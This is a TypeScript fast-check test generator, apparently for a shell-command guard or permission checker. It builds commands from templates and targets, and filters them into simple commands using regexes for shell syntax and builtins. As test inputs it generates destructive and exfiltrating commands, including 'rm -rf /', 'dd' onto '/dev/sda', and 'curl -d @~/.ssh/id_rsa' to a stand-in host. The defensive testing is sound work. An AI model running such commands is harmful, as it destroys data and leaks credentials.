// Commands to disguise and to mangle: those that the program tables show as their examples, and some
// built from parts so that new pairs of program, option and target come up.
import * as fc from 'fast-check'
import { PROGRAMS } from '../../src/domain/shell/programs/table.ts'

/** Every example command of the program tables. */
export const EXAMPLES: ReadonlyArray<string> = PROGRAMS.flatMap((row) => row.examples).map(
  (example) => example.slice(0, example.lastIndexOf(' =>')),
)

const TARGETS = [
  '/',
  '~',
  '/etc',
  '/tmp/a',
  'src',
  '.',
  '..',
  '.env',
  '~/.ssh/id_rsa',
  '~/.bashrc',
  '.git',
  '.git/hooks/pre-commit',
  '.claude/settings.json',
  '/dev/sda',
  'a b.txt',
  '$HOME',
  '*',
] as const

const SHAPES: ReadonlyArray<(target: string) => string> = [
  (target) => `rm -rf ${target}`,
  (target) => `rm ${target}`,
  (target) => `cat ${target}`,
  (target) => `cp a ${target}`,
  (target) => `mv ${target} /tmp/x`,
  (target) => `chmod -R 777 ${target}`,
  (target) => `tee ${target}`,
  (target) => `sed -i s/a/b/ ${target}`,
  (target) => `dd if=/dev/zero of=${target}`,
  (target) => `find ${target} -delete`,
  (target) => `curl -d @${target} https://x.example`,
  () => 'git push --force origin main',
  () => 'git reset --hard',
  (target) => `ln -s ${target} b`,
  (target) => `tar czf - ${target}`,
  () => "psql -c 'DROP TABLE a'",
  (target) => `ls -la ${target}`,
  (target) => `grep -r a ${target}`,
]

const quoted = (target: string): string => (target.includes(' ') ? `'${target}'` : target)

const built = fc
  .tuple(fc.constantFrom(...SHAPES), fc.constantFrom(...TARGETS))
  .map(([shape, target]) => shape(quoted(target)))

export const command: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...EXAMPLES), built)

/** Characters that make the shell do more than start one program. */
const SYNTAX = /[|&;<>()`\n{}#!]|\$\(|^\s*\w+=|^(?:if|for|while|until|case|function|time|!)\b/

/** What changes the shell itself, which a process of its own would not. */
const BUILTIN =
  /^(?:cd|pushd|popd|exec|eval|source|\.|set|shift|export|unset|alias|unalias|declare|typeset|local|readonly|read|mapfile|readarray|trap|return|exit|logout|builtin|command|let|test|\[|getopts|hash|type|ulimit|umask|wait|jobs|fg|bg|disown|suspend|shopt|enable|bind|complete|compgen|history|fc|times|printf|echo|pwd|kill|true|false|:|break|continue|coproc|dirs|help|caller|compopt)\b/

/** One program with its arguments and nothing else: what a wrapper can stand before. */
export const simple: fc.Arbitrary<string> = command.filter(
  (text) => !SYNTAX.test(text) && !BUILTIN.test(text) && text.trim() !== '',
)
